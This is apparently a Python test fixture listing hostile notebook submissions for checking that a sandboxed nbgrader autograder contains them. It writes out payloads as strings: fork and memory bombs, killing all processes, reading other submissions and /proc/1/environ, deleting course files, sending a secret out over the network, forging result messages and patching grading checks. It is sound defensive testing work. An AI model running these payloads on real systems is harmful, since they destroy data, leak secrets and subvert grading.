"""The hostile corpus: bad submissions, each with the per-candidate status it must end in.

Each kind is either raw bytes for the notebook file, or code injected at the top of the
candidate's first answer cell (the rest of the notebook holds the model answers). Placeholders
``{course}``, ``{outside}``, ``{port}`` are filled in by the test with real host paths/ports.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Kind:
    """One kind of hostile submission and what must come out of grading it."""

    name: str
    status: str
    inject: str = ""                      # code prepended to the first answer cell
    raw: bytes | None = None              # or: the notebook file's bytes
    score: float | None = None            # expected total, when it is certain
    tamper: str = ""                      # name of a notebook-editing function below
    extra: dict[str, bytes] = field(default_factory=dict)
    also: tuple[str, ...] = ()            # other statuses the machine's speed may give instead


def _nb_bytes(nbformat_version: int) -> bytes:
    return json.dumps({"cells": [], "metadata": {}, "nbformat": nbformat_version,
                       "nbformat_minor": 0}).encode()


# A secret planted where candidates must not look: other submissions, the source, the gradebook.
SECRET = "SECRET-7f3a9"

KINDS: list[Kind] = [
    # -- broken files ------------------------------------------------------------------------
    Kind("invalid_json", "invalid-notebook", raw=b'{"cells": [', score=0.0),
    Kind("empty_file", "invalid-notebook", raw=b"", score=0.0),
    Kind("wrong_nbformat", "invalid-notebook", raw=_nb_bytes(99), score=0.0),
    Kind("huge_200mb", "invalid-notebook", score=0.0),   # written on the fly by the test
    Kind("non_utf8", "invalid-notebook", raw=b'{"cells": [], "metadata": {"x": "\xff\xfe\xfa"}, '
                                             b'"nbformat": 4, "nbformat_minor": 5}', score=0.0),
    # -- tampered cells ----------------------------------------------------------------------
    Kind("deleted_cells", "ok", tamper="delete_tests", score=3.0),
    Kind("edited_tests", "errors", tamper="edit_tests", score=3.0),
    Kind("duplicated_ids", "ok", tamper="duplicate_ids", score=6.0),  # copy graded as a plain cell
    # nbgrader refuses cell metadata that breaks its schema: the notebook cannot be graded
    Kind("points_not_a_number", "invalid-notebook", tamper="bad_points", score=0.0),
    Kind("metadata_wrong_type", "invalid-notebook", tamper="bad_metadata_type", score=0.0),
    Kind("monkeypatched_check", "errors", score=3.0, tamper="k3",
         inject="import checks\nchecks.check_segments = lambda *a, **k: None\n"
                "checks.check_segments.__code__ = (lambda *a, **k: None).__code__\n"),
    Kind("rebound_assert_helpers", "ok", score=6.0,
         inject="import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {})\n"),
    # -- runaway code ------------------------------------------------------------------------
    Kind("infinite_loop", "timeout", inject="while True:\n    pass\n"),
    Kind("sleep_forever", "timeout", inject="import time\ntime.sleep(10**6)\n"),
    # Address space, taken without touching it (bytes(n) is calloc'd): the limit is on address
    # space, and page faults cost CPU time, so a bomb that fills every page can meet the per-cell
    # CPU budget first on a slow machine and read "timeout" (CI once did, at 5 s per cell).
    Kind("memory_bomb", "memory", inject="hog = []\nwhile True:\n    hog.append(bytes(50 * 2**20))\n"),
    # ...and the bomb that fills every page it takes: contained all the same, by either limit
    Kind("memory_fill", "memory", also=("timeout",),
         inject="hog = []\nwhile True:\n    hog.append(bytearray(50 * 2**20))\n"),
    Kind("fork_bomb", "errors", inject="import os\nwhile True:\n    os.fork()\n"),
    Kind("os_exit", "crashed", inject="import os\nos._exit(3)\n", score=0.0),
    Kind("segfault", "crashed", inject="import ctypes\nctypes.string_at(0)\n", score=0.0),
    Kind("kill_everything", "ok", score=6.0,
         inject="import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n"
                "try:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError:\n    pass\n"),
    # -- output abuse ------------------------------------------------------------------------
    Kind("print_100mb", "output-limit", inject="print('x' * 100_000_000)\n"),
    Kind("fd_flood", "output-limit", inject="import os\nos.system('head -c 100000000 /dev/zero | tr \"\\\\0\" x')\n"),
    Kind("binary_junk", "ok", score=6.0,
         inject="print(bytes(range(256)).decode('latin-1'))\n"
                "from IPython.display import display\n"
                "display({'application/octet-stream': bytes(range(256)).decode('latin-1'), "
                "'text/plain': '\\x00\\x1b[31m'}, raw=True)\n"),
    # every cell ends in a float whose text/plain is blanked: nbgrader's determine_grade raises on
    # the test cells' results; the candidate's outcome (invalid-output), never left pending
    Kind("blank_formatter", "invalid-output", score=0.0,
         inject="import ast\nclass _Tail(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
                "        node.body.append(ast.Expr(ast.Constant(1.5)))\n"
                "        return ast.fix_missing_locations(node)\n"
                "get_ipython().ast_transformers.append(_Tail())\n"
                "get_ipython().display_formatter.formatters['text/plain'].for_type(float, lambda o, p, c: p.text(''))\n"),
    Kind("stderr_noise", "ok", score=6.0,
         inject="import sys\nfor _ in range(100):\n    print('noise', file=sys.stderr)\n"),
    Kind("stderr_in_tests", "ok", score=0.0,
         inject="import sys\nget_ipython().events.register('post_run_cell', "
                "lambda *a: print('noise', file=sys.stderr))\n"),
    Kind("forged_result_channel", "crashed", score=0.0,
         inject="import os, json, struct\nfake = json.dumps({'exit': {'code': 0}}).encode()\n"
                "for fd in map(int, os.listdir('/proc/self/fd')):\n    if fd > 2:\n"
                "        try:\n            os.write(fd, struct.pack('!I', len(fake)) + fake)\n"
                "        except OSError:\n            pass\n"),
    # -- reaching out ------------------------------------------------------------------------
    Kind("read_other_submission", "ok", score=6.0,
         inject="import glob\nfor p in glob.glob('{course}/submitted/*/*/*') + glob.glob('/tmp/**/*.ipynb', recursive=True):\n"
                "    try:\n        print(open(p, errors='replace').read()[:100000])\n"
                "    except OSError as e:\n        print('denied', e)\n"),
    Kind("read_gradebook", "ok", score=6.0,
         inject="for p in ['{course}/gradebook.db', '{course}/nbgrader_config.py']:\n"
                "    try:\n        print(open(p, 'rb').read()[:100000])\n"
                "    except OSError as e:\n        print('denied', e)\n"),
    Kind("read_source", "ok", score=6.0,
         inject="import os\nprint(os.listdir('.'))\nfor p in ['{course}/source/segmentation/segmentation.ipynb',\n"
                "          '{course}/autograded', '/proc/1/environ', '/proc/1/cmdline']:\n"
                "    try:\n        print(open(p, errors='replace').read()[:100000])\n"
                "    except OSError as e:\n        print('denied', e)\n"),
    Kind("write_outside", "ok", score=6.0,
         inject="for p in ['{outside}/pwned.txt', '{course}/pwned.txt', '/tmp/pwned.txt', '/usr/pwned.txt',\n"
                "          '/pwned.txt']:\n"
                "    try:\n        open(p, 'w').write('pwned')\n"
                "    except OSError as e:\n        print('denied', e)\n"),
    Kind("delete_files", "ok", score=6.0,
         inject="import shutil, os\nfor p in ['{course}/gradebook.db', '{course}/release', '{outside}']:\n"
                "    try:\n        shutil.rmtree(p) if os.path.isdir(p) else os.remove(p)\n"
                "    except OSError as e:\n        print('denied', e)\n"),
    Kind("network", "ok", score=6.0,
         inject="import socket\nfor addr in [('127.0.0.1', {port}), ('1.1.1.1', 80), ('pypi.org', 443)]:\n"
                "    try:\n        socket.create_connection(addr, timeout=2).send(b'{secret}')\n"
                "        print('CONNECTED', addr)\n"
                "    except OSError as e:\n        print('blocked', e)\n"),
    Kind("background_process", "ok", score=6.0,
         inject="import subprocess, os\nsubprocess.Popen(['sleep', '1000'], start_new_session=True)\n"
                "if os.fork() == 0:\n    os.setsid()\n    import time\n    time.sleep(3)\n"
                "    open('{outside}/late.txt', 'w').write('escaped')\n    os._exit(0)\n"),
]


def inject_text(kind: Kind, *, course: str, outside: str, port: int) -> str:
    return (kind.inject.replace("{course}", course).replace("{outside}", outside)
            .replace("{port}", str(port)).replace("{secret}", SECRET))
